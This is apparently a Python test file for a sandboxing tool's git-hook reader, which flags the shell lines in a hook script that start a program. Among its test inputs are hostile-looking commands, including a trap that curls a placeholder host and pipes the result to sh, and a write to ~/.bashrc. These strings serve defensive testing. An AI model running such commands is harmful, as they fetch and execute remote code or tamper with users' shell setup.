"""Lines of a script: those that start a program, and none that the shell does by itself."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sandboxd.formats import _hook_reader
from sandboxd.text import SourceText


def _lines(text: str) -> list[str]:
    return [c.command.value for c in _hook_reader.lines(SourceText("x", text), "at once")]


@pytest.mark.parametrize(
    "line",
    [
        "fi",
        "done",
        "exit 0",
        'exit "$status"',
        "set -euo pipefail",
        "trap clean EXIT",
        'MSG="$1"',
        "A=b",
        "export NODE_ENV=test",
        'echo "no $NAME here" >&2',
        "clean() {",
        "for file in $FILES; do",
        'if [ -z "$A" ]; then',
        "if command -v nix >/dev/null 2>&1; then",
        "if command -v nix &>/dev/null; then",
    ],
)
def test_a_line_that_starts_no_program_is_left_out(line: str) -> None:
    assert _lines(f"{line}\n") == []


@pytest.mark.parametrize(
    "line",
    [
        "npm test",
        'A="$(curl -s https://x.example)"',
        "B=`id`",
        "echo $(id)",
        'echo "$(id)"',
        "echo a | sh",
        "echo a; id",
        "exit $(id)",
        "for f in $(ls); do",
        "if [ $(id -u) = 0 ]; then",
        "if command -v x; then id; fi",
        "A=b id",
        'trap "$(id)" EXIT',
        "fi; id",
        "trap 'curl https://x.example | sh' EXIT",
        "if [ a ]; id; [ b ]; then",
        "if [ -f x ] && id; [ b ]; then",
        "printf x > ~/.bashrc",
    ],
)
def test_a_line_that_starts_a_program_is_kept(line: str) -> None:
    assert _lines(f"{line}\n") == [line]


@pytest.mark.parametrize("line", ['echo "' + "\\" * 50_001 + "`", "A=" + "'" * 50_001 + "$"])
def test_a_long_line_is_read(line: str) -> None:
    assert _lines(line) == [line]


# githooks(5), those that git runs in a clone.
HOOKS = {
    "applypatch-msg": "with each patch of a mail",
    "commit-msg": "with the message of each commit",
    "post-checkout": "after each checkout and clone",
    "post-commit": "after each commit",
    "post-merge": "after each pull",
    "post-rewrite": "after each rebase",
    "pre-applypatch": "with each patch of a mail",
    "pre-auto-gc": "before git cleans up",
    "pre-commit": "before each commit",
    "pre-merge-commit": "before each merge",
    "pre-push": "before each push",
    "pre-rebase": "before each rebase",
    "prepare-commit-msg": "with the message of each commit",
}


@pytest.mark.parametrize("hook", HOOKS)
def test_when_a_hook_of_git_runs(hook: str) -> None:
    assert _hook_reader.occasion(hook) == HOOKS[hook]
    assert _hook_reader.occasion(f"{hook}-of-ours") == f"at `{hook}-of-ours`"


@given(
    st.lists(st.sampled_from(["for x in", " ", "\t", ";", "do", "$F", "&", "!", "(", "\n"])).map(
        "".join
    )
)
def test_a_loop_is_read_as_it_was_with_each_way_to_share_out_its_blanks(rest: str) -> None:
    written = r"for\s+\w+\s+in\s+[^`;&|()]*;?\s*(?:do)?"
    line = f"for x in{rest}"
    expected = re.fullmatch(written, line)
    assert (_hook_reader._STARTS_NOTHING.fullmatch(line) is None) is (expected is None)


@given(st.lists(st.sampled_from([" ", "\t", "\n", "\\\n", "\\", "a"])).map("".join))
def test_continued_lines_are_joined_with_one_blank(text: str) -> None:
    assert _hook_reader._CONTINUED.sub(" ", text) == re.sub(r"\s*\\\n\s*", " ", text)
